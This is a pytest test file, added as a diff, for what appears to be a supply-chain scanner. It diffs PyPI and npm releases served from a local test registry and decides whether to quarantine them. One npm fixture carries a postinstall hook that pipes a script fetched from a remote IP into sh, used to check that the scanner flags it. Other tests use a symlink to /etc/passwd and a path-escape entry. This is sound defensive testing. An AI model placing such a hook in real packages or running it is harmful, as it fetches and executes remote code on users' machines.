@@ -1,0 +1,267 @@
+"""Registry releases as artifacts, against a PyPI simple index and an npm registry on loopback."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import io
+import json
+import tarfile
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import httpx
+import pytest
+from typer.testing import CliRunner
+
+from producers import registry
+from producers.files import InputError, expand_paths, read_inputs
+from producers.registry import RegistryError, archive_files, release_diff, unified_diff
+from worker.cli import app
+
+SETUP_OLD = b'from setuptools import setup\n\nsetup(name="demo-pkg", version="1.0.0")\n'
+SETUP_NEW = b'from setuptools import setup\n\nsetup(name="demo-pkg", version="1.0.1")\n'
+INIT = b'"""Demo."""\n\n\ndef add(a, b):\n    return a + b\n'
+PKG_OLD = {"name": "demo-npm", "version": "1.0.0", "main": "index.js"}
+PKG_HOOK = PKG_OLD | {"version": "1.0.1", "scripts": {"postinstall": "curl -s http://203.0.113.9/i.sh | sh"}}
+INDEX_JS = b"module.exports = (a, b) => a + b;\n"
+
+
+def tarball(top: str, files: dict[str, bytes], extra: list[tarfile.TarInfo] = ()) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
+        for name, content in files.items():
+            info = tarfile.TarInfo(f"{top}/{name}")
+            info.size = len(content)
+            tf.addfile(info, io.BytesIO(content))
+        for info in extra:
+            tf.addfile(info)
+    return buf.getvalue()
+
+
+def npm_files(pkg: dict[str, object]) -> dict[str, bytes]:
+    return {"package.json": json.dumps(pkg, indent=2).encode() + b"\n", "index.js": INDEX_JS}
+
+
+class Registry:
+    """Archives served by path, plus the PEP 691 and npm metadata documents that name them."""
+
+    def __init__(self) -> None:
+        self.blobs: dict[str, bytes] = {}
+        self.docs: dict[str, bytes] = {}
+        self.tamper: set[str] = set()
+
+    def pypi(self, project: str, releases: dict[str, bytes], yanked: tuple[str, ...] = ()) -> None:
+        files = []
+        for version, blob in releases.items():
+            filename = f"{project.replace('-', '_')}-{version}.tar.gz"
+            self.blobs[f"/files/{filename}"] = blob
+            files.append(
+                {
+                    "filename": filename,
+                    "url": f"../../files/{filename}",
+                    "hashes": {"sha256": hashlib.sha256(blob).hexdigest()},
+                    "yanked": version in yanked,
+                }
+            )
+        self.docs[f"/simple/{project}/"] = json.dumps({"name": project, "files": files}).encode()
+
+    def npm(self, name: str, releases: dict[str, bytes], base: str, latest: str) -> None:
+        versions = {}
+        for version, blob in releases.items():
+            path = f"/tarballs/{name.replace('/', '-')}-{version}.tgz"
+            self.blobs[path] = blob
+            integrity = "sha512-" + base64.b64encode(hashlib.sha512(blob).digest()).decode()
+            versions[version] = {"dist": {"tarball": base + path, "integrity": integrity}}
+        doc = {"name": name, "dist-tags": {"latest": latest}, "versions": versions}
+        self.docs["/" + name.replace("/", "%2F")] = json.dumps(doc).encode()
+
+
+@pytest.fixture()
+def served(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Registry, str]]:
+    reg = Registry()
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 - http.server's name
+            body = reg.docs.get(self.path) or reg.blobs.get(self.path)
+            if body is None:
+                self.send_response(404)
+                self.end_headers()
+                return
+            if self.path in reg.tamper:
+                body = body[:-1] + bytes([body[-1] ^ 1])
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    base = f"http://127.0.0.1:{server.server_port}"
+    monkeypatch.setenv("CANARY_PYPI_INDEX_URL", f"{base}/simple")
+    monkeypatch.setenv("CANARY_NPM_REGISTRY", base)
+    try:
+        yield reg, base
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.fixture()
+def client() -> Iterator[httpx.Client]:
+    with httpx.Client(timeout=10) as c:
+        yield c
+
+
+def test_pypi_release_is_diffed_against_its_predecessor(served, client) -> None:
+    reg, _ = served
+    old = tarball("demo_pkg-1.0.0", {"setup.py": SETUP_OLD, "demo/__init__.py": INIT})
+    new = tarball("demo_pkg-1.0.1", {"setup.py": SETUP_NEW, "demo/__init__.py": INIT})
+    yanked = tarball("demo_pkg-1.0.2", {"setup.py": b"import os\n"})
+    reg.pypi("demo-pkg", {"1.0.0": old, "1.0.1": new, "1.0.2": yanked}, yanked=("1.0.2",))
+
+    diff = release_diff(client, "pypi:demo-pkg")  # newest non-yanked release
+
+    assert diff.label == "pypi:demo-pkg:1.0.0->1.0.1"
+    text = diff.data.decode()
+    assert text.startswith("diff --git a/setup.py b/setup.py\n--- a/setup.py\n+++ b/setup.py\n")
+    assert '-setup(name="demo-pkg", version="1.0.0")' in text
+    assert '+setup(name="demo-pkg", version="1.0.1")' in text
+    assert "demo/__init__.py" not in text  # unchanged files are not in the diff
+
+
+def test_first_npm_release_is_a_diff_against_nothing(served, client) -> None:
+    reg, base = served
+    reg.npm("@acme/thing", {"0.1.0": tarball("package", npm_files(PKG_OLD))}, base, latest="0.1.0")
+
+    diff = release_diff(client, "npm:@acme/thing")
+
+    assert diff.label == "npm:@acme/thing:0.1.0:new-package"
+    text = diff.data.decode()
+    assert "diff --git a/index.js b/index.js\nnew file mode 100644\n--- /dev/null\n+++ b/index.js\n" in text
+    assert "+module.exports = (a, b) => a + b;" in text
+
+
+def test_npm_predecessor_follows_semver_not_publish_order(served, client) -> None:
+    reg, base = served
+    releases = {
+        v: tarball("package", npm_files(PKG_OLD | {"version": v}))
+        for v in ("1.10.0", "1.9.0", "1.10.0-beta.2", "1.2.0")
+    }
+    reg.npm("demo-npm", releases, base, latest="1.10.0")
+
+    assert release_diff(client, "npm:demo-npm").label == "npm:demo-npm:1.10.0-beta.2->1.10.0"
+    assert release_diff(client, "npm:demo-npm@1.10.0-beta.2").label == "npm:demo-npm:1.9.0->1.10.0-beta.2"
+
+
+def test_a_tampered_archive_is_refused(served, client) -> None:
+    reg, base = served
+    reg.npm("demo-npm", {"1.0.0": tarball("package", npm_files(PKG_OLD))}, base, latest="1.0.0")
+    reg.tamper.add("/tarballs/demo-npm-1.0.0.tgz")
+
+    with pytest.raises(RegistryError, match="sha512 does not match"):
+        release_diff(client, "npm:demo-npm")
+
+
+def test_unknown_package_and_version_are_errors(served, client) -> None:
+    reg, base = served
+    reg.npm("demo-npm", {"1.0.0": tarball("package", npm_files(PKG_OLD))}, base, latest="1.0.0")
+
+    with pytest.raises(RegistryError, match="not found"):
+        release_diff(client, "pypi:nope")
+    with pytest.raises(RegistryError, match="no release 9.9.9"):
+        release_diff(client, "npm:demo-npm@9.9.9")
+
+
+def test_archive_members_stay_in_memory_and_links_or_escapes_are_skipped() -> None:
+    link = tarfile.TarInfo("pkg-1.0/link")
+    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
+    files = archive_files(
+        tarball("pkg-1.0", {"a.py": b"x = 1\n", ".hidden/evil.pth": b"import os\n", "../up": b"!"}, [link]),
+        "pkg-1.0.tar.gz",
+    )
+    assert files == {"a.py": b"x = 1\n", ".hidden/evil.pth": b"import os\n"}
+
+
+def test_an_archive_over_the_limit_is_refused_not_cut(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(registry, "MAX_ARCHIVE_BYTES", 1000)
+    blob = tarball("pkg-1.0", {"a.txt": b"a" * 600, "b.txt": b"b" * 600})
+    with pytest.raises(RegistryError, match="larger than the limit"):
+        archive_files(blob, "pkg-1.0.tar.gz")
+
+
+def test_binary_and_deleted_files_are_named_in_the_diff() -> None:
+    diff = unified_diff({"gone.py": b"x\n", "lib.so": b"\x7fELF\0\0"}, {"lib.so": b"\x7fELF\0\1"}).decode()
+    assert "diff --git a/gone.py b/gone.py\ndeleted file mode 100644\n--- a/gone.py\n+++ /dev/null\n" in diff
+    assert "Binary files a/lib.so and b/lib.so differ\n" in diff
+
+
+def test_list_files_expand_to_specs_and_paths(tmp_path: Path) -> None:
+    (tmp_path / "note.txt").write_text("hello")
+    listing = tmp_path / "tonight.txt"
+    listing.write_text(
+        f"# nightly batch\npypi:six==1.17.0\n\nnpm:@babel/core@7.0.0\n{tmp_path / 'note.txt'}\n"
+    )
+
+    assert expand_paths([f"@{listing}"]) == [
+        "pypi:six==1.17.0",
+        "npm:@babel/core@7.0.0",
+        str(tmp_path / "note.txt"),
+    ]
+
+
+def test_read_inputs_records_a_failed_release_and_goes_on(served, tmp_path: Path) -> None:
+    (tmp_path / "a.txt").write_bytes(b"plain")
+    errors: list[str] = []
+    got = list(read_inputs(["npm:missing-pkg", str(tmp_path / "a.txt")], errors))
+    assert got == [(str(tmp_path / "a.txt"), b"plain")]
+    assert len(errors) == 1 and "missing-pkg" in errors[0]
+    with pytest.raises(InputError):
+        list(read_inputs(["npm:missing-pkg"]))
+
+
+def test_canary_scan_gates_registry_releases(served, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    reg, base = served
+    reg.npm(
+        "demo-npm",
+        {"1.0.0": tarball("package", npm_files(PKG_OLD)), "1.0.1": tarball("package", npm_files(PKG_HOOK))},
+        base,
+        latest="1.0.1",
+    )
+    reg.pypi(
+        "demo-pkg",
+        {
+            "1.0.0": tarball("demo_pkg-1.0.0", {"setup.py": SETUP_OLD, "demo/__init__.py": INIT}),
+            "1.0.1": tarball("demo_pkg-1.0.1", {"setup.py": SETUP_NEW, "demo/__init__.py": INIT}),
+        },
+    )
+    monkeypatch.setenv("CANARY_DATA_DIR", str(tmp_path / "canary"))
+    runner = CliRunner()
+
+    bump = runner.invoke(app, ["scan", "-p", "malicious-package", "--json", "pypi:demo-pkg"])
+    hook = runner.invoke(app, ["scan", "-p", "malicious-package", "--json", "npm:demo-npm"])
+    missing = runner.invoke(app, ["scan", "-p", "malicious-package", "npm:demo-npm", "npm:no-such-pkg"])
+
+    assert bump.exit_code == 0, bump.output
+    assert json.loads(bump.stdout.splitlines()[0])["decision"] == "allow"
+    assert hook.exit_code == 1, hook.output
+    assert json.loads(hook.stdout.splitlines()[0])["decision"] == "quarantine"
+    assert missing.exit_code == 2  # the release that exists is gated; the one that does not fails loudly
+    assert "no-such-pkg" in missing.output
+
+
+def test_the_table_prints_names_as_given(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    odd = tmp_path / "[bold]pypi:six:1.0"
+    odd.write_text("Version bump only.\n")
+    monkeypatch.setenv("CANARY_DATA_DIR", str(tmp_path / "canary"))
+    monkeypatch.setenv("COLUMNS", "300")
+
+    result = CliRunner().invoke(app, ["scan", str(odd)])
+
+    assert result.exit_code == 0, result.output
+    assert "[bold]pypi:six:1.0" in result.stdout
